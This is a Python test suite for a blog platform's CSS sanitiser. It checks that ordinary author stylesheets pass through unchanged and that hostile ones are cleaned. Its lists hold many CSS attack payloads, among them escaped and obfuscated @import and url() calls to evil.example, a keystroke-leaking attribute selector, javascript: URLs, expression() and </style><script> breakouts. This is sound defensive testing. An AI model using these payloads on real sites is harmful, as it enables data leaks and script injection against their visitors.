"""An author's CSS: kept as it was written, and unable to reach out of the blog or to end its place."""

import re

import pytest
import tinycss2
from hypothesis import given
from hypothesis import strategies as st

from bearblog.engines.rendering.style_rules import plain_address
from bearblog.engines.rendering.styles import CleanCss, clean_css

KEPT = [
    "",
    "body { color: red }\n",
    "/* a note of mine */\nbody{color:red;;}\n\n\ta:hover { x : y }",
    "a { background: url(/media/bear.webp) }",
    "a { background: url( 'bear.png' ) no-repeat }",
    "a { background: url(\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E\") }",
    "@font-face { font-family: A; src: url(data:font/woff2;base64,AAAA) format('woff2') }",
    "@font-face { src: url(data:application/x-font-woff;base64,AAAA) }",
    "a { background: image-set('/a.avif' type('image/avif'), '/a.png' 2x) }",
    "p::before { content: 'https://example.org'; quotes: '“' '”' }",
    "html { scroll-behavior: smooth } /* url(https://example.org/x) */",
    ".behavior:hover { color: red } a[href^='https://'] { color: blue }",
    "@media (min-width: 30em) { @supports (display: grid) { a { b { color: red } } } }",
    ":root { --theme: { color: red }; --x: 'https://example.org' } a { color: var(--x) }",
    "@layer base { a { filter: url(#blur) } }",
    "a { margin: calc(1px + env(safe-area-inset-left)); width: attr(data-w) }",
    "<!-- a { color: red } -->",
    "a { background: url(/**/https://example.org/a-path-of-the-blog-itself) }",
    "a { color: red }} b { color: blue }",
    "\\31 0 { color: red } .größe { content: '\\2042' } 李 { color: red }",
]

# Each is a way that CSS has been known to load, run or leak something, or to leave its element.
LOADS = [
    "@import 'https://evil.example/x.css';",
    "@import url(https://evil.example/x.css);",
    "@IMPORT url('//evil.example/x.css') screen;",
    "@\\69mport 'https://evil.example/x.css';",
    "@\\000069 mport url(x.css);",
    "@import/**/'https://evil.example/x.css'",
    "@import '/media/0123.css';",
    "a{} @import 'https://evil.example/x.css'; b{}",
    "@media screen { @import 'https://evil.example/x.css'; }",
    "@import 'x.css' layer(a) supports(display: grid);",
    "@import 'data:text/css,a{}';",
    "a { background: url(https://evil.example/x.png) }",
    "a { background: url('https://evil.example/x.png') }",
    'a { background: url("http://evil.example/x.png") }',
    "a { background: url(//evil.example/x.png) }",
    "a { background: URL(HTTPS://EVIL.EXAMPLE/X.PNG) }",
    "a { background: u\\72l(https://evil.example/x.png) }",
    "a { background: \\75\\72\\6c('https://evil.example/x.png') }",
    "a { background: \\000075rl(https://evil.example/x.png) }",
    "a { background: url(https\\3a//evil.example/x.png) }",
    "a { background: url(\\68ttps://evil.example/x.png) }",
    "a { background: url('\\68 ttps://evil.example/x.png') }",
    "a { background: url(\n  https://evil.example/x.png\n) }",
    "a { background: url('\thttps://evil.example/x.png') }",
    "a { background: url('ht\\9tps://evil.example/x.png') }",
    "a { background: url('\\\n//evil.example/x.png') }",
    "a { background: url('\\\\\\\\evil.example/x.png') }",
    "a { background: url('/\\\\evil.example/x.png') }",
    "a { background: url('\\1 //evil.example/x.png') }",
    "a { background: url(https:evil.example/x.png) }",
    "a { background: src('https://evil.example/x.png') }",
    "a { background: src(var(--where)) }",
    "a { background: image-set('https://evil.example/x.png' 1x) }",
    "a { background: -webkit-image-set(url(https://evil.example/x.png) 1x) }",
    "a { background: IMAGE-SET(var(--where) 1x) }",
    "a { background: image-set(attr(title) 1x) }",
    "a { background: image-set(--f() 1x) }",
    "a { background: image('https://evil.example/x.png') }",
    "a { background: cross-fade(url(https://evil.example/x.png), red) }",
    "a { background: attr(title url) }",
    "a { background: linear-gradient(red, blue), url(//evil.example/x.png) }",
    ":root { --where: url(https://evil.example/x.png) }",
    ":root { --deep: { inner: [ ( url(https://evil.example/x.png) ) ] } }",
    "a { foo({ url(https://evil.example/x.png) }) }",
    "input[value^='a'] { background: url(https://evil.example/?a) }",
    "@font-face { font-family: A; src: local('x'), url(https://evil.example/x.woff) }",
    "@font-face { unicode-range: U+41; src: url(https://evil.example/?A) }",
    "@supports (background: url(https://evil.example/x.png)) { a { color: red } }",
    "@namespace url(https://evil.example/);",
    "@page { background: url(https://evil.example/x.png) }",
    "@property --x { syntax: '<url>'; initial-value: url(https://evil.example/) }",
    "@container style(--x: url(//evil.example/)) { a { color: red } }",
    "a { b { c { cursor: url(https://evil.example/x.cur), auto } } }",
    "a { filter: url(https://evil.example/x.svg#f) }",
    "a { list-style: url(ftp://evil.example/x.png) }",
    "a { background: url(javascript:alert(1)) }",
    "a { background: url('javascript:alert(1)') }",
    "a { background: url('jav\\09 ascript:alert(1)') }",
    "a { background: url(vbscript:x) }",
    "a { background: url(blob:https://evil.example/1) }",
    "a { background: url(data:text/html,x) }",
    "a { background: url('DATA:text/css,x') }",
    "a { background: url(data:application/xml,x) }",
    "a { width: expression(alert(1)) }",
    "a { width: EXPRESSION (1); width: exp\\72 ession(alert(1)) }",
    "a { width: calc(1px + expression(alert(1))) }",
    "a { behavior: url(#default#time2) }",
    "a { behaviour: x; BEHAVIOR : url(/x.htc) }",
    "a { *behavior: url(/x.htc) }",
    "a { beh\\61vior: x }",
    "a { -ms-behavior: url(/x.htc) }",
    "a { -moz-binding: url(/x.xml#a) }",
    "a { -moz-b\\69nding/**/: url(/x.xml#a) }",
    "a { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='/x.png') }",
    "a { background: url(bad url) } b { background: url(https://evil.example/x.png) }",
    'a { background: url(x"y) ; c: d } b { background: url(//evil.example/x.png) }',
    "a { background: url('open\n) } b { background: url(//evil.example/x.png) }",
    "a { background: url(https://evil.example/x.png",
    "a { background: url('https://evil.example/x.png",
    "/* never closed */ a { background: url(//evil.example/x.png) /* open",
    "'\n@import 'https://evil.example/x.css';",
    '"\\"\n" a { background: url(//evil.example/x.png) }',
    "a { background: url(a\\\\) } b { background: url(//evil.example/x.png) }",
    "u+0url(https://evil.example/x.png)",
    "a\0b { background: url(//evil.example/x.png) }",
    "a\r@import 'https://evil.example/x.css';\fb{}",
]


def addresses_in(css: str) -> list[str]:
    """Every address in the sheet, found once more and more simply than by the cleaner."""
    found, waiting = [], list(tinycss2.parse_component_value_list(css))
    while waiting:
        node = waiting.pop()
        if node.type == "url":
            found.append(node.value)
        if node.type == "function" and node.lower_name in ("url", "src", "image", "image-set"):
            found += [inner.value for inner in node.arguments if inner.type == "string"]
        waiting += getattr(node, "content", None) or getattr(node, "arguments", None) or []
    return [plain_address(address) for address in found]


def assert_harmless(result: CleanCss) -> None:
    assert "</" not in result.css
    assert "evil" not in " ".join(addresses_in(result.css)).lower()
    # Escapes undone and comments taken out, as far as a simple look can.
    plain = re.sub(r"/\*.*?\*/", "", result.css, flags=re.DOTALL).lower()
    plain = re.sub(r"\\0*([0-9a-f]{1,6})\s?", lambda code: chr(int(code[1], 16) % 0x110000), plain)
    for word in ("@import", "expression(", "-moz-binding", "progid", "javascript:", "vbscript:"):
        assert word not in plain
    assert not re.search(r"(?<![\w-])(-ms-)?behavior\s*:(?!hover)", plain)


@pytest.mark.parametrize("css", KEPT)
def test_ordinary_css_stays_as_it_was_written(css: str) -> None:
    assert clean_css(css, allows_remote=False) == CleanCss(css)


@pytest.mark.parametrize("css", LOADS)
def test_what_loads_runs_or_leaks_is_left_out(css: str) -> None:
    result = clean_css(css, allows_remote=False)
    assert result.warnings
    assert_harmless(result)
    assert clean_css(result.css, allows_remote=False) == CleanCss(result.css)


@pytest.mark.parametrize(
    "css",
    [
        "a{color:red}</style><script>alert(1)</script>",
        "a{content:'</STYLE><img src=x onerror=alert(1)>'}",
        "/* </style><svg onload=alert(1)> */",
        "a{background:url(</style><script>)}",
        "<!--</style><script>-->",
    ],
)
def test_nothing_ends_the_style_element(css: str) -> None:
    assert "</" not in clean_css(css, allows_remote=False).css


def test_only_the_rule_in_question_is_left_out() -> None:
    css = "a {\n  color: red;\n  background: url(//x.example/);\n  margin: 0;\n}\nb { color: blue }\n"
    result = clean_css(css, allows_remote=False)
    assert result.css == "a {\n  color: red;\n  /* left out */\n  margin: 0;\n}\nb { color: blue }\n"
    assert [warning.line_number for warning in result.warnings] == [3]
    assert "another host" in result.warnings[0].sentence


def test_warnings_name_the_line_and_end_at_fifty() -> None:
    css = "a { b: url(//x.example/) }\n" * 100
    warnings = clean_css(css, allows_remote=False).warnings
    assert [warning.line_number for warning in warnings] == list(range(1, 51))


def test_what_is_open_at_the_end_is_closed() -> None:
    assert clean_css("@media print { a { color: red", allows_remote=False).css.endswith("red\n}}")
    assert clean_css("a { b: c } /* open", allows_remote=False).css == "a { b: c } /* open*/"


def test_other_hosts_serve_what_the_author_allows_by_https() -> None:
    css = "@import url('https://fonts.example/css2?a=b;c') screen;\na { background: url(https://x.example/) }"
    result = clean_css(css, allows_remote=True)
    assert result.imports == "@import url('https://fonts.example/css2?a=b;c') screen;\n"
    assert "url(https://x.example/)" in result.css
    assert result.warnings == ()


@pytest.mark.parametrize(
    "css",
    [
        "@import 'http://x.example/';",
        "@import 'x.css';",
        "@import var(--x);",
        "a { @import 'https://x.example/'; }",
        "@import 'https://x.example/' { a {} }",
        "a { background: url(http://x.example/) }",
        "a { background: url(javascript:x) }",
        "a { background: image-set(var(--x) 1x) }",
        "a { behavior: url(https://x.example/) }",
    ],
)
def test_other_hosts_serve_nothing_else(css: str) -> None:
    result = clean_css(css, allows_remote=True)
    assert result.warnings
    assert result.imports == ""
    assert "x.example" not in result.css


@pytest.mark.parametrize(
    "piece", ["{", "(", "a(", "url(", "/*", "'\n", "\\", "a{b:url(//x)}", "@import ", "u+?"]
)
def test_a_hostile_sheet_takes_no_time(piece: str) -> None:
    result = clean_css(piece * (20_000 // len(piece)), allows_remote=False)
    assert clean_css(result.css, allows_remote=False).warnings == ()


PIECES = ["{", "}", "(", ")", "[", "]", "'", '"', ";", ":", "\\", "\n", "/*", "*/", "@import", "@media", "a"]
PIECES += ["url(", "//evil", "https://evil", "image-set(", "src(", "--x", "\\75", "u+1", "<!--", "-->", "</"]
PIECES += [" ", ","]


@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join), st.booleans())
def test_whatever_is_written_the_result_is_clean_and_stays_so(css: str, allows_remote: bool) -> None:
    result = clean_css(css, allows_remote=allows_remote)
    assert "</" not in result.css
    again = clean_css(result.css, allows_remote=allows_remote)
    assert (again.css, again.warnings, again.imports) == (result.css, (), "")
    if not allows_remote:
        assert not [address for address in addresses_in(result.css) if address.startswith(("//", "https:"))]
